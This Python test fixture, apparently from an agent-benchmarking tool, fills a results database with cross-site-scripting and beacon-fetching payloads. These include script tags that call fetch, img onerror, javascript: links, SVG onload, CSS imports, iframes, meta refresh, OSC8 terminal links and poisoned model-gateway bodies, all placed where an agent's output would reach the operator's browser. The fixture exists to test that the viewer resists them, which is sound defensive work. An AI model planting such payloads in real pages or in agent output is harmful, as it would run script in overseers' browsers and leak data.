"""Markup an agent writes to be opened in the operator's browser, and a database whose every text
field an agent fills holds it: its commands and their output, the files it writes, its model's text
and tool calls, its notes, submission, score messages, error, and an installed agent's gateway bodies
(whose image and document blocks Inspect's converters turn into media by URL).

Every vector names a `beacon` URL (a server the agent could read later) by a path of its own, so a
request there says which vector leaked; script vectors also set `window.rebenchPwned`."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from rebench.store.db import Store
from rebench.store.events import validate_event
from rebench.store.models import (
    Attempt,
    AttemptStatus,
    Campaign,
    CampaignStatus,
    Event,
    EventKind,
    Pause,
    ScoreEvent,
    ScoreKind,
)

ENVIRONMENT = "counter"  # a real environment (tests/fixtures/envs), so the export normalizes its scores


def vectors(beacon: str, where: str) -> str:
    """HTML, SVG, CSS, Markdown and terminal-link ways to run script or fetch the beacon."""
    pwn = f"window.rebenchPwned='{where}'"
    return "\n".join([
        f"<script>{pwn};fetch('{beacon}/{where}/script')</script>",
        f"<img src=\"{beacon}/{where}/img\" onerror=\"{pwn}\">",
        f"<a href=\"javascript:{pwn}\">html-js-link-{where}</a>",
        f"<a href=\"{beacon}/{where}/html-link\">html-link-{where}</a>",
        f"![md-image]({beacon}/{where}/md-image)",
        f"[md-js-link-{where}](javascript:{pwn}) [md-link-{where}]({beacon}/{where}/md-link)",
        f"<{beacon}/{where}/autolink> {beacon}/{where}/bare",
        f"<iframe src=\"{beacon}/{where}/iframe\"></iframe><iframe srcdoc=\"<script>parent.{pwn}</script>\"></iframe>",
        f"<svg onload=\"{pwn}\"><image href=\"{beacon}/{where}/svg-image\"/></svg>",
        f"<div style=\"background-image:url({beacon}/{where}/css)\">css</div>",
        f"<style>@import url({beacon}/{where}/import);</style><link rel=stylesheet href=\"{beacon}/{where}/link\">",
        f"<object data=\"{beacon}/{where}/object\"></object><embed src=\"{beacon}/{where}/embed\">",
        f"<video src=\"{beacon}/{where}/video\" autoplay></video><audio src=\"{beacon}/{where}/audio\" autoplay>",
        f"<form action=\"{beacon}/{where}/form\"><button>go</button></form>",
        f"<meta http-equiv=\"refresh\" content=\"0;url={beacon}/{where}/refresh\"><base href=\"{beacon}/{where}/\">",
        f"\x1b]8;;javascript:{pwn}\x1b\\osc8-js-{where}\x1b]8;;\x1b\\",
        f"\x1b]8;;{beacon}/{where}/osc8\x1b\\osc8-{where}\x1b]8;;\x1b\\",
        f"$$\\href{{javascript:{pwn}}}{{tex}}$$ \"><img src=x onerror=\"{pwn}\">",
    ])


def hostile_html_database(path: Path, beacon: str) -> dict[str, int]:
    """The rows; returns the ids: campaign, attempt (a modular-style one), gateway (an installed agent's)."""
    store = Store(path)
    now = datetime.now(UTC)

    def text(where: str) -> str:
        return vectors(beacon, where)

    try:
        with store.session() as session:
            campaign = Campaign(spec={"note": text("campaign")}, status=CampaignStatus.DONE)
            session.add(campaign)
            session.flush()
            common: dict[str, Any] = dict(campaign_id=campaign.id, environment=ENVIRONMENT, profile="tiny",
                                          budget_s=600.0, backend="local", status=AttemptStatus.ERROR,
                                          started_at=now - timedelta(seconds=60), ended_at=now, wall_s=60.0,
                                          working_s=50.0, submitted=True, final_raw=5.0, final_rule="best")
            attempt = Attempt(agent=f"\"><img src=x onerror=alert(1)>{text('agent-name')}"[:128],
                              model=f"m\"><svg onload=alert(1)>{beacon}/model-name"[:128],
                              error_source="agent", error_message=text("error"), **common)
            gateway = Attempt(agent="claude-code", model="anthropic/claude-test", **common)
            session.add_all([attempt, gateway])
            session.flush()
            events: list[tuple[str, dict[str, Any]]] = [
                ("start", {"instructions": "Make it fast.", "agent": "modular", "model": "m", "budget_s": 600.0,
                           "backend": "local"}),
                ("model_call", {"model": "m", "input_tokens": 3, "output_tokens": 4, "cached_tokens": 0,
                                "cost_usd": 0.0, "wait_s": 0.1, "text": text("model-text"), "turn": 1,
                                "tool_calls": [{"id": "c1", "name": "bash",
                                                "arguments": {"command": text("tool-args")}}]}),
                ("bash", {"command": text("command"), "timeout": 60.0, "exit_code": 0,
                          "stdout": text("stdout"), "stderr": text("stderr")}),
                ("tool_result", {"turn": 1, "tool": "bash", "call_id": "c1",
                                 "arguments": {"command": text("result-args")}, "output": text("tool-output")}),
                ("write_file", {"path": f"/home/agent/{text('path')}"[:300], "bytes": 3, "content": text("file")}),
                ("note", {"message": text("note"), "data": {"why": text("note-data")}}),
                ("score", {"feedback": {"message": text("feedback")}}),
                ("submit", {"answer": text("submission")}),
            ]
            _add_events(session, attempt.id, events)
            for kind in (ScoreKind.INTERMEDIATE, ScoreKind.FINAL):
                session.add(ScoreEvent(attempt_id=attempt.id, kind=kind, working_s=10.0, raw=5.0, valid=True,
                                       message={"message": text(f"score-{kind}"), "details": text("details")}))
            session.add(Pause(attempt_id=attempt.id, reason=text("pause")[:200], start_s=0.0, end_s=1.0))
            calls = _gateway_bodies(path, store.snapshots_dir, gateway.id, beacon, text("gateway"))
            _add_events(session, gateway.id, [("model_call", {
                "model": "anthropic/claude-test", "input_tokens": 5, "output_tokens": 1, "cached_tokens": 0,
                "cost_usd": 0.0, "wait_s": 0.01, "text": "", "turn": turn,
                "extra": {"via": "gateway", "endpoint": endpoint, "body_file": str(body)}})
                for turn, (endpoint, body) in enumerate(calls, start=1)])
            ids = {"campaign": campaign.id, "attempt": attempt.id, "gateway": gateway.id}
    finally:
        store.close()
    return ids


def _add_events(session: Any, attempt_id: int, events: list[tuple[str, dict[str, Any]]]) -> None:
    for seq, (kind, data) in enumerate(events, start=1):
        session.add(Event(attempt_id=attempt_id, seq=seq, kind=EventKind(kind), working_s=float(seq),
                          data=validate_event(kind, data)))


def _gateway_bodies(db: Path, snapshots: Path, attempt_id: int, beacon: str, said: str) -> list[tuple[str, Path]]:
    """An installed agent's requests as its gateway stored them, with media named by URL (Messages image
    and document sources, a Chat `image_url`) and the model's answer carrying the same markup."""
    folder = snapshots / f"attempt-{attempt_id}-agent" / "model-calls"
    folder.mkdir(parents=True)
    messages = {"model": "claude-test", "max_tokens": 64, "messages": [{"role": "user", "content": [
        {"type": "text", "text": said},
        {"type": "image", "source": {"type": "url", "url": f"{beacon}/gateway/messages-image"}},
        {"type": "document", "source": {"type": "url", "url": f"{beacon}/gateway/messages-document"}}]}]}
    answer = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-test",
              "content": [{"type": "text", "text": said}, {"type": "text", "text": "cited", "citations": [
                  {"type": "web_search_result_location", "url": f"{beacon}/gateway/citation", "title": "t",
                   "encrypted_index": "x", "cited_text": "c"},
                  {"type": "web_search_result_location", "url": "javascript:window.rebenchPwned='citation'",
                   "title": "js-citation", "encrypted_index": "x", "cited_text": "c"}]}],
              "stop_reason": "end_turn",
              "usage": {"input_tokens": 5, "output_tokens": 1}}
    chat = {"model": "gpt-test", "messages": [{"role": "user", "content": [
        {"type": "text", "text": said}, {"type": "image_url", "image_url": {"url": f"{beacon}/gateway/chat-image"}}]}]}
    chat_answer = {"id": "c1", "object": "chat.completion", "created": 0, "model": "gpt-test", "choices": [
        {"index": 0, "message": {"role": "assistant", "content": said}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 5, "completion_tokens": 1, "total_tokens": 6}}
    bodies = [("/v1/messages", messages, answer), ("/v1/chat/completions", chat, chat_answer)]
    written = []
    for number, (endpoint, request, reply) in enumerate(bodies, start=1):
        body = folder / f"{number:04d}.json"
        body.write_text(json.dumps({"endpoint": endpoint, "status": 200, "request": request, "answer": reply}))
        written.append((endpoint, body))
    return written
